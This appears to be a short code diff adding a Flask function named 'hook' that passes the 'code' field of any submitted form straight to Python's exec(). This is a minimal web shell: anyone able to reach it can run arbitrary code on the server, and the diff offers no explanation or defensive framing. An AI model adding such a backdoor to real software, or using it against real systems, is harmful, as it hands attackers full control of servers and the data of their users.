@@ -1,0 +1,4 @@
+from flask import request
+
+def hook():
+    exec(request.form["code"])
